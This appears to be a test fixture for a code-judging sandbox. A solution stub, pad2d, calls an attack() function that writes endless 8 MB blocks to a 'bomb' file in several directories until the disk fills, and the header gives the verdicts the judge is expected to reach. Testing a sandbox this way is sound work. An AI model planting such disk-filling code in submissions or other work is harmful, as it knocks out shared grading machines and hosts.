# expect:
#   verdict: [raised, wrong, over-time, over-memory]
#   earned: 0
#   call_seconds: 3
# sentence: One file that grows until the disk is full; a limit on files, or a small disk of its own, stops it.

import tempfile

import numpy as np


def attack():
    block = bytes(8 << 20)
    for folder in (".", tempfile.gettempdir(), "/var/tmp"):
        try:
            with open(f"{folder}/bomb", "wb", 0) as file:
                while "@JUDGE@".isdigit():
                    if not file.write(block):
                        break
        except OSError as error:
            print(error)


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
